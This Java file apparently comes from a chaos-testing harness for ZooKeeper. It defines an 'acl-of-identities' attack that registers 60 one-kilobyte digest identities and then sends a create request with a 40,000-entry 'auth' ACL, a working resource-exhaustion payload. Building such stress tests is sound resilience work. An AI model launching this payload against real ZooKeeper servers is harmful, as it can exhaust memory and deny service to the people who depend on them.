package io.oarlock.chaos.hostile.client;

import io.oarlock.chaos.hostile.subject.Attack;
import io.oarlock.chaos.hostile.subject.RawClient;
import io.oarlock.chaos.hostile.subject.RequestBytes;
import io.oarlock.chaos.hostile.subject.Subject;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.IntStream;
import org.apache.zookeeper.ZooDefs;
import org.apache.zookeeper.ZooDefs.OpCode;
import org.apache.zookeeper.data.ACL;
import org.apache.zookeeper.data.Id;

/**
 * An ACL entry of the scheme auth stands for every identity of the connection: their product is what an apply bears.
 */
public final class AclOfIdentities implements Attack {

    private static final int IDENTITIES = 60;
    private static final int IDENTITY_BYTES = 1_000;
    private static final int ENTRIES = 40_000;

    @Override
    public String name() {
        return "acl-of-identities";
    }

    @Override
    public String description() {
        return "60 identities of 1 KB, then a create whose ACL has 40,000 entries of the scheme auth";
    }

    @Override
    public void launch(Subject subject) throws IOException {
        RawClient client = subject.client();
        for (int i = 0; i < IDENTITIES; i++) {
            client.addDigest(
                    ("user" + i + "x".repeat(IDENTITY_BYTES) + ":password").getBytes(StandardCharsets.US_ASCII));
        }
        List<ACL> acl = IntStream.range(0, ENTRIES)
                .mapToObj(i -> new ACL(1 + i % ZooDefs.Perms.ALL, new Id("auth", Integer.toString(i))))
                .toList();
        RequestBytes create = RawClient.creation("/of-identities", new byte[0], acl, 0);
        subject.fact(
                "create is answered with", client.ask(OpCode.create, create).error());
    }
}
